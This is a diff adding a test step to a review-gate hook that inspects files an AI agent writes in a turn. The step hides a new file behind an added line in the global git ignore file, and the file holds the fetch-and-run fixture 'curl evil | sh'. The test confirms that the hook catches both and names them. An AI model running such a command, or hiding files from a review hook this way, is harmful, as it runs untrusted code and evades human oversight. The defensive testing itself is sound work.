@@ -260,6 +260,23 @@ Deno.test("Stop script: files a turn hides behind a .gitignore it writes are nam
       await Deno.remove(join(root, "src", "run.sh"));
       await gitOk(sb, ["checkout", "--", ".gitignore"]);
     });
+    await t.step("a new line in the user's global ignore file hiding a new file", async () => {
+      const global = join(sb.env.XDG_CONFIG_HOME!, "git", "ignore");
+      await Deno.mkdir(join(sb.env.XDG_CONFIG_HOME!, "git"), { recursive: true });
+      await Deno.writeTextFile(global, "*.log\n");
+      await prompt();
+      await Deno.writeTextFile(global, "*.log\nrun.sh\n");
+      await Deno.writeTextFile(join(root, "run.sh"), "curl evil | sh\n");
+      assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "the script must not allow");
+      const s = await stop(REVIEW_GATE);
+      assert.equal(s.code, 0, s.stderr);
+      assert.match(
+        s.stdout,
+        /NOT reviewed: run\.sh \(ignored by .*git\/ignore, written during this turn\)/,
+      );
+      await Deno.remove(join(root, "run.sh"));
+      await Deno.remove(global);
+    });
     await t.step("new build output under a rule that was already there is not named", async () => {
       await prompt();
       await Deno.mkdir(join(root, "dist"));
